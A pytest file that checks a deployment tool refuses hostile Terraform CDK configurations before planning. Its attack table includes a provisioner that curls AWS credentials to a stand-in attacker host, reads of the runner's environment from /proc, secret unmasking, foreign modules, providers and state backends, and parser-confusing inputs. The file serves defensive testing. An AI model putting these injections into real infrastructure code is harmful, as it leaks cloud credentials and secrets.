"""Attacks by what a change's code hands on: `synthesized/prod/cdk.tf.json`, which is planned next to the state.

None is laid out where Terraform would read it. What a configuration may not hold at all is in
tests/unit/review/test_closed_world.py; here are the ways in which a file could bring it past that judgement.
"""

import copy
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from edge.__main__ import main
from edge.plan.errors import RefusedError
from edge.plan.handed_in import handed_in
from environments.checked import Environment
from tests.support.files import ROOT, managed, prod
from tests.support.files import environment as environment_from

Configuration = dict[str, Any]
PROVISIONER = [{"local-exec": {"command": "curl -d @$HOME/.aws https://evil.example"}}]
SECRET = "aws_cognito_user_pool_client.link.client_secret"


def group(content: Configuration) -> Any:
    return content["resource"]["aws_lb_target_group"]["link"]


def changed(edit: Callable[[Configuration], object]) -> Callable[[Configuration], bytes]:
    def attack(content: Configuration) -> bytes:
        edit(content)
        return json.dumps(content).encode()

    return attack


def twice(key: str, first: Any) -> Callable[[Configuration], bytes]:
    """Write a key twice: Python keeps the last one, and Terraform merges both."""
    return lambda content: f'{{"{key}": {json.dumps(first)}, {json.dumps(content)[1:]}'.encode()


def beside(text: bytes) -> Callable[[Configuration], bytes]:
    return lambda content: json.dumps(content).encode() + text


ATTACKS: dict[str, Callable[[Configuration], bytes]] = {
    "a provisioner": changed(lambda it: group(it).update(provisioner=PROVISIONER)),
    "a provisioner in a second table of resources": twice(
        "resource", {"aws_lb_target_group": {"x": {"provisioner": PROVISIONER}}}
    ),
    "a data source in a second table": twice("data", {"external": {"x": {"program": ["id"]}}}),
    "a provider in a second table": twice("provider", {"aws": [{"endpoints": [{"sts": "https://evil.example"}]}]}),
    "a program as a data source": changed(lambda it: it["data"].update(external={"x": {"program": ["id"]}})),
    "a request as a data source": changed(lambda it: it["data"].update(http={"x": {"url": "https://evil.example"}})),
    "another state as a data source": changed(lambda it: it["data"].update(terraform_remote_state={"x": {}})),
    "a module from elsewhere": changed(lambda it: it.update(module={"x": {"source": "git::https://evil.example"}})),
    "a provider from elsewhere": changed(
        lambda it: it["terraform"]["required_providers"]["aws"].update(source="evil.example/evil/aws")
    ),
    "an endpoint of its own": changed(
        lambda it: it["provider"]["aws"][0].update(endpoints=[{"sts": "https://evil.example"}])
    ),
    "a program that signs in": changed(
        lambda it: it["provider"]["aws"][0].update(shared_config_files=["change/config"])
    ),
    "another account": changed(lambda it: it["provider"]["aws"][0].update(allowed_account_ids=["999999999999"])),
    "another bucket for the state": changed(lambda it: it["terraform"]["backend"]["s3"].update(bucket="evil")),
    "a state without a lock": changed(lambda it: it["terraform"]["backend"]["s3"].update(use_lockfile=False)),
    "a state's endpoint": changed(
        lambda it: it["terraform"]["backend"]["s3"].update(endpoints={"s3": "https://e.example"})
    ),
    "a backend over HTTP": changed(
        lambda it: it["terraform"].update(backend={"http": {"address": "https://e.example"}})
    ),
    "the runner's environment in a name": changed(lambda it: group(it).update(name='${file("/proc/self/environ")}')),
    "the job's token in a tag": changed(lambda it: group(it).update(tags={"x": '${filebase64("/proc/1/environ")}'})),
    "a secret of the state in an attribute": changed(
        lambda it: group(it).update(tags={"x": f"${{nonsensitive({SECRET})}}"})
    ),
    "a secret of the state in an output": changed(
        lambda it: it["output"].update(x={"value": f"${{nonsensitive({SECRET})}}"})
    ),
    "a secret parameter that is not hidden": changed(
        lambda it: group(it).update(tags={"x": "${data.aws_ssm_parameter.board_client_secret.insecure_value}"})
    ),
    "an import that takes another's thing over": changed(
        lambda it: it.update({"import": [{"to": "aws_lb_target_group.link", "id": "arn:evil"}]})
    ),
    "something to remove": changed(lambda it: it.update(removed=[{"from": "aws_lb_target_group.link"}])),
    "a block that a later Terraform may know": changed(lambda it: it.update(action={})),
    "a list in place of a table": lambda _: b"[]",
    "a backend that is a list": changed(lambda it: it["terraform"].update(backend=["s3"])),
    "required providers that are a list": changed(lambda it: it["terraform"].update(required_providers=["aws"])),
    "text": lambda _: b"resource {}",
    "nothing": lambda _: b"",
    "null": lambda _: b"null",
    "two documents": beside(b'{"module": {}}'),
    "something behind the end": beside(b"\nmodule x {}"),
    "NaN": lambda _: b'{"resource": NaN}',
    "depth that ends a reader": lambda _: b'{"a":' * 100_000,
    "bytes that are no text": lambda _: b'{"a": "\xff\xfe\xff"}',
    "more than any configuration": lambda _: b" " * 20_000_001,
}


@pytest.fixture
def planned() -> Environment:
    return environment_from(prod())


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_of_it_reaches_terraform(
    name: str, prod_stack: Configuration, planned: Environment, tmp_path: Path
) -> None:
    file = tmp_path / "cdk.tf.json"
    file.write_bytes(ATTACKS[name](copy.deepcopy(prod_stack)))
    with pytest.raises(RefusedError) as refused:
        handed_in(planned, file, {"CDKTF_OUTDIR": str(tmp_path / "out")})
    assert all(line.startswith(f"--configuration {file}") for line in str(refused.value).splitlines())
    assert not (tmp_path / "out").exists()


def test_the_configuration_of_another_environment_is_refused(
    managed_stack: Configuration, planned: Environment, tmp_path: Path
) -> None:
    assert managed()["prefix"] != prod()["prefix"]
    file = tmp_path / "cdk.tf.json"
    file.write_text(json.dumps(managed_stack), encoding="utf-8")
    with pytest.raises(RefusedError, match="is not what the environment file says"):
        handed_in(planned, file, {"CDKTF_OUTDIR": str(tmp_path / "out")})


@pytest.mark.parametrize("kind", ["absent", "folder", "device", "pipe", "broken link", "closed"])
def test_what_is_no_file_is_refused_and_never_waited_for(kind: str, planned: Environment, tmp_path: Path) -> None:
    file = tmp_path / "cdk.tf.json"
    make: dict[str, Callable[[], object]] = {
        "absent": lambda: None,
        "folder": file.mkdir,
        "device": lambda: file.symlink_to("/dev/zero"),
        "pipe": lambda: os.mkfifo(file),
        "broken link": lambda: file.symlink_to(tmp_path / "nothing"),
        "closed": lambda: file.symlink_to(file),
    }
    make[kind]()
    with pytest.raises(RefusedError, match=r"is not a file|cannot be read"):
        handed_in(planned, file, {"CDKTF_OUTDIR": str(tmp_path / "out")})


def test_the_pull_requests_comment_says_why_nothing_was_planned(
    prod_stack: Configuration, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Written as a review, so that the comment shows it; nothing of it is markup."""
    monkeypatch.setattr("edge.plan.make.held_priorities", lambda _: [])
    monkeypatch.setenv("CDKTF_OUTDIR", str(tmp_path / "out"))
    file, folder = tmp_path / "cdk.tf.json", tmp_path / "plan"
    content = copy.deepcopy(prod_stack)
    group(content).update(provisioner=PROVISIONER)
    content["<b>module</b>"] = {}
    file.write_text(json.dumps(content), encoding="utf-8")
    assert main(["plan", "prod", f"--configuration={file}", f"--write={folder}", f"--base={ROOT}"]) == 2
    text = (folder / "review.md").read_text(encoding="utf-8")
    assert text.startswith("## prod was not planned\n")
    assert "has a provisioner, which runs commands" in text
    assert "<b>" not in text
    assert [item.name for item in folder.iterdir()] == ["review.md"]


def test_what_is_planned_is_what_was_judged(prod_stack: Configuration, planned: Environment, tmp_path: Path) -> None:
    """Written again, so that no encoding, byte order mark or space is read otherwise than it was judged."""
    file = tmp_path / "cdk.tf.json"
    file.write_bytes(json.dumps(prod_stack).encode("utf-16"))
    stack = handed_in(planned, file, {"CDKTF_OUTDIR": str(tmp_path / "out")})
    assert stack.file == tmp_path / "out" / "stacks" / "prod" / "cdk.tf.json"
    assert json.loads(stack.file.read_text(encoding="ascii")) == prod_stack
    assert [item.name for item in stack.folder.iterdir()] == ["cdk.tf.json"]
